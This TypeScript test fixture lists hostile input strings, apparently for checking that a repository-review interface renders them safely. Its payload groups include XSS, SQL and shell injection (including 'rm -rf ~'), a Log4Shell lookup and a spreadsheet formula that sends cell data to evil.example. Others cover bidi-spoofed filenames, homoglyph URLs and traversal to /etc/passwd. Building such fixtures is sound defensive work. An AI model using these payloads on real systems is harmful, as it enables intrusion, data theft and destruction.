/** One way in which texts of a repository can be hostile. */
export interface Payloads {
  /** Of the review that carries them: `hostile-markup`. */
  name: string;
  /** What is hostile about them, for the index. */
  about: string;
  texts: readonly string[];
  /** Instead of `texts`, where a member holds a link. */
  urls?: readonly string[];
  /** Instead of `texts`, where a member holds a path. */
  paths?: readonly string[];
}

/** One long text of 100,000 characters without a place to break it. */
const LONG_WORD = 'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(2400).slice(0, 100_000);
/** One line of 100,000 characters. */
const LONG_LINE = 'the berth is free and '.repeat(4600).slice(0, 100_000);
/** A letter under a stack of combining marks. */
const STACK = `h${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(12)}arbor${'\u0316\u0317'.repeat(20)}`;

/** Every kind of hostile text, each for a review in which all texts are of it. */
export const PAYLOADS: readonly Payloads[] = [
  {
    name: 'hostile-markup',
    about: 'markup and script',
    texts: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '</title></textarea></style></script><svg/onload=alert(1)>',
      '<!--<b>--><i>not italic</i>]]>',
      '&lt;b&gt;not an entity&lt;/b&gt; &#x3c;u&#x3e; &amp;amp; &bogus;',
      '"><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
      "' onmouseover='alert(1)' x='",
      '[link](javascript:alert(1)) **bold** `code` ![image](https://evil.example/x.png)',
      '<style>*{display:none}</style><base href="https://evil.example/">',
      '<form action="https://evil.example"><input name=token autofocus></form>',
    ],
  },
  {
    name: 'hostile-templates',
    about: 'template syntax, format strings, shell and SQL',
    texts: [
      '{{7*7}}',
      '${7*7} #{7*7} <%= 7*7 %> {% raw %} [[${7*7}]]',
      "{{constructor.constructor('alert(1)')()}}",
      '%s %n %x %1$s {0} {} %(name)s',
      '$(touch /tmp/owned) `touch /tmp/owned` ; rm -rf ~ & echo && | #',
      '\'; DROP TABLE review; -- " OR 1=1',
      '\\u003cb\\u003e \\x3c \\0 \\',
      "$& $1 $` $' $$ \\1",
      '${jndi:ldap://evil.example/a}',
      ':root{--x:url(https://evil.example)} /* */ // <!--',
    ],
  },
  {
    name: 'hostile-controls',
    about: 'control characters, line separators and terminal codes',
    texts: [
      'before\u0000after',
      '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
      'over\rwritten\b\b\b\b\b\b\bhidden',
      'line\nbreak\u2028separator\u2029paragraph\u0085next\u000bvertical\u000cfeed',
      '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u000e\u000f\u0010\u007f\u0080\u009f',
      'tab\there\u00a0nbsp\u3000wide\u2003em\u205fmath',
      '\n\n\n\n\nfive lines down',
      '\ufffe\uffff\ufdd0 noncharacters',
      'object \ufffc replacement \ufffd interlinear \ufff9a\ufffab\ufffb',
      '\u001a end of file \u0004',
    ],
  },
  {
    name: 'hostile-direction',
    about: 'bidirectional controls and right-to-left text',
    texts: [
      '\u202egnp.exe',
      'user\u202e \u2066// admin only\u2069 \u2066begin',
      '\u202bright\u202c \u202aleft\u202c \u202dforced\u202c',
      'never closed \u2067\u2066\u202e',
      '\u200f\u200f\u061c marks \u200e',
      'مرفأ (ميناء) 42 — harbor/ledger#412',
      'שלום -- 1234-5678 -- world',
      'a \u2069\u2069\u202c\u202c closes what it did not open',
      '\u05d0'.repeat(80),
      'amount: \u202e00.001\u202c EUR',
    ],
    paths: ['src/\u202egnp.ts', 'src/\u2066config\u2069.json', 'מסמכים/קובץ.txt'],
  },
  {
    name: 'hostile-invisible',
    about: 'invisible text, and characters that aren’t text',
    texts: [
      '\u200b\u200c\u200d\u2060\ufeff',
      'pass\u200bword ad\u00admin r\u034foot',
      '\u3164\u115f\u1160\uffa0\u2800',
      ' ',
      '',
      '\u{e0041}\u{e0064}\u{e006d}\u{e0069}\u{e006e}tagged',
      'v\ufe0fa\ufe0er\u{e0100}iants',
      '\u180e\u17b4\u17b5\u206a\u206f',
      '\t',
      '\u00a0\u2007\u202f',
    ],
    paths: ['src/\u200bindex.ts', '\u2800', 'a/ /b'],
  },
  {
    name: 'hostile-marks',
    about: 'stacks of combining marks, emoji sequences and look-alikes',
    texts: [
      STACK,
      '\u0301starts with a mark',
      '👩‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁷󠁬󠁳󠁿🇵🇹🇪🇺1️⃣#️⃣❤️‍🔥',
      '👨'.repeat(1) + '\u200d👩'.repeat(30),
      '🇦'.repeat(41),
      'ɪɴᴛᴇʀᴇsᴛ 𝕱𝖗𝖆𝖐𝖙𝖚𝖗 ｆｕｌｌｗｉｄｔｈ ﬁ ﷽ ꧅',
      'раypal.example and gіthub.example and аdmin',
      '\ud800 lone \udfff surrogates \udbff',
      'İstanbul ıI ß ẞ ǆ ŉ ſ K Å',
      'e\u0301 é \u1100\u1161\u11a8 각',
    ],
    urls: [
      'https://gіt.harbor.example/harbor/ledger',
      'https://git.harbor.example\u2024evil.example/',
      'https://xn--gt-ypc.harbor.example/',
      'https://git。harbor。example/',
    ],
  },
  {
    name: 'hostile-formulas',
    about: 'text that a spreadsheet would run as a formula',
    texts: [
      '=HYPERLINK("https://evil.example/?t="&A1,"open")',
      "=cmd|' /C calc'!A0",
      '+1+1+cmd|calc',
      '-2+3+cmd|calc',
      '@SUM(1+1)*cmd|calc',
      '\t=1+1',
      '\r=1+1',
      '"=1+1"',
      '＝1+1 ＠SUM(1)',
      '0001, 1E5, 2026-11-20, TRUE, 12/11, 9223372036854775807',
    ],
  },
  {
    name: 'hostile-lengths',
    about: 'lines and words of 100,000 characters',
    texts: [LONG_LINE, LONG_WORD, 'x', 'i'.repeat(4000), `${'wide '.repeat(900)}end`],
    urls: [`https://git.harbor.example/${'a/'.repeat(2000)}`],
    paths: [`${'deep/'.repeat(400)}file.ts`, `${'n'.repeat(4000)}.ts`],
  },
  {
    name: 'hostile-links',
    about: 'links that run code, hide their target, carry credentials or lead elsewhere',
    texts: [
      'https://evil.example/?q=harbor',
      'javascript:alert(1)',
      'see www.evil.example, mailto:ceo@evil.example',
      '//evil.example/path',
      'data:text/html,<script>alert(1)</script>',
    ],
    urls: [
      'javascript:alert(document.domain)',
      ' javascript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:alert(1)',
      'JaVaScRiPt:alert(1)//https://git.harbor.example',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'blob:https://git.harbor.example/0',
      'https://user:secret@git.harbor.example/harbor/ledger',
      'https://git.harbor.example@evil.example/harbor/ledger',
      'https://evil.example\\@git.harbor.example/',
      'https://git.harbor.example.evil.example/harbor/ledger',
      '//evil.example/harbor/ledger',
      '/organizations/somewhere/else',
      'https:evil.example',
      'https://[::1]:4180/sign-in',
      'http://127.0.0.1:22/',
      'https://git.harbor.example:0/%00%0d%0aSet-Cookie:a=b',
      'not a link at all',
      '',
    ],
  },
  {
    name: 'hostile-paths',
    about: 'paths that lead out of their folder, and names with a special meaning elsewhere',
    texts: ['../../../../etc/passwd', '..\\..\\windows\\system32', '/dev/null', 'CON', '.', '..'],
    paths: [
      '../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      '%2e%2e/%2e%2e/secret',
      'C:\\Windows\\win.ini',
      '/etc/shadow',
      'a//b/./c/../d',
      '.git/config',
      'file.ts?raw=1#L1',
      'name\u0000.ts',
      'runs/1/../../reviews',
      '',
    ],
    urls: [
      'https://git.harbor.example/harbor/ledger/blob/main/../../../admin',
      'https://git.harbor.example/%2e%2e/%2e%2e/admin',
    ],
  },
  {
    name: 'hostile-names',
    about: 'names that JavaScript itself uses',
    texts: [
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      'null',
      'undefined',
      'NaN',
      'true',
      '[object Object]',
      '-0',
    ],
  },
];
